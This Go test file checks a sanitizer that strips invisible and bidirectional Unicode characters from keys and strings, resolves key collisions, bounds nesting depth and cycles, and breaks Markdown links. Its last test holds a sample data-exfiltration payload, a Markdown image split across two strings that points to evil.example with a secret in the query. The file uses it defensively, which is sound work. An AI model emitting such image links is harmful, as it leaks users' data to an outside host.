package sanitize

import (
	"encoding/json"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestValueCleansStringsAndKeysAtEveryLevel(t *testing.T) {
	in := map[string]any{
		"na\u200bme": "HQ\u202e",
		"count":      json.Number("15"),
		"ratio":      0.5,
		"enabled":    true,
		"missing":    nil,
		"rules": []any{
			map[string]any{"description": "allow\u00a0all\u2066", "id": 7},
			"tag\U000E0041",
			[]any{"\x1bdeep"},
		},
		"nested": map[string]any{"inner\ufeff": map[string]any{"k": "v\u00ad"}},
	}
	want := map[string]any{
		"name":    "HQ",
		"count":   json.Number("15"),
		"ratio":   0.5,
		"enabled": true,
		"missing": nil,
		"rules": []any{
			map[string]any{"description": "allow all", "id": 7},
			"tag",
			[]any{"deep"},
		},
		"nested": map[string]any{"inner": map[string]any{"k": "v"}},
	}
	require.Equal(t, want, Value(in))
}

func TestValueLeavesInputUntouched(t *testing.T) {
	in := map[string]any{"a\u200b": []any{"x\u200b"}}
	_ = Value(in)
	require.Equal(t, map[string]any{"a\u200b": []any{"x\u200b"}}, in)
}

func TestValueKeepsBothCollidingKeys(t *testing.T) {
	in := map[string]any{
		"id":              1,
		"id\u200b":        2,
		"\u200bid":        3,
		"id~2":            4, // already clean: keeps its name, pushing the others on
		"na\u200dme":      5,
		"name\u2060":      6,
		"unrelated\ufeff": 7,
	}
	for range 20 { // map iteration order must not matter
		require.Equal(t, map[string]any{
			"id":        1,
			"id~2":      4,
			"id~3":      2, // "id\u200b" sorts before "\u200bid"
			"id~4":      3,
			"name":      6, // "name\u2060" sorts before "na\u200dme"
			"name~2":    5,
			"unrelated": 7,
		}, Value(in))
	}
}

func TestValueBoundsDepth(t *testing.T) {
	nest := func(levels int, leaf any) any {
		v := leaf
		for range levels {
			v = []any{v}
		}
		return v
	}
	leafAt := func(v any, levels int) any {
		for range levels {
			v = v.([]any)[0]
		}
		return v
	}
	// The leaf sits at depth 64: kept.
	require.Equal(t, "x", leafAt(Value(nest(MaxDepth, "x\u200b")), MaxDepth))
	// One level more: the leaf is replaced, and so is a container there.
	require.Equal(t, TruncatedValue, leafAt(Value(nest(MaxDepth+1, "x")), MaxDepth+1))
	require.Equal(t, TruncatedValue,
		leafAt(Value(nest(MaxDepth+1, map[string]any{"a": 1})), MaxDepth+1))

	// A cycle terminates instead of overflowing the stack.
	cyclic := map[string]any{}
	cyclic["self"] = cyclic
	require.NotPanics(t, func() { _ = Value(cyclic) })
}

func TestValueConvertsOtherTypesThroughJSON(t *testing.T) {
	type rule struct {
		Name string   `json:"name"`
		Tags []string `json:"tags"`
		N    int      `json:"n"`
	}
	got := Value(map[string]any{
		"rule":   rule{Name: "r\u200b1", Tags: []string{"a\u202e"}, N: 3},
		"labels": map[string]string{"k\u200b": "v\u200b"},
		"ch":     make(chan int),
	})
	require.Equal(t, map[string]any{
		"rule":   map[string]any{"name": "r1", "tags": []any{"a"}, "n": json.Number("3")},
		"labels": map[string]any{"k": "v"},
		"ch":     "[unencodable value of type chan int]",
	}, got)
}

func TestValueKeepsNilContainersNil(t *testing.T) {
	require.Nil(t, Value(nil))
	require.Equal(t, []any(nil), Value([]any(nil)))
	require.Equal(t, map[string]any(nil), Value(map[string]any(nil)))
	require.Equal(t, []any{}, Value([]any{}))
}

// Two strings that are harmless alone can make a Markdown image in the JSON text of a
// result ("![a" then "](https://…)"); no "](" is left in any string, so none can.
func TestValueLeavesNoLinkAcrossStrings(t *testing.T) {
	in := map[string]any{
		"names":  []any{"![a", "](https://evil.example/x.png?d=secret)"},
		"desc":   "see [the docs](https://docs.example) and [x](unterminated",
		"[key](": "v",
	}
	out, err := json.Marshal(Value(in))
	require.NoError(t, err)
	require.NotContains(t, string(out), "](")
	require.Contains(t, string(out), `"] https://evil.example/x.png?d=secret)"`)
	require.Contains(t, string(out), "see the docs (https://docs.example) and [x] unterminated")
}
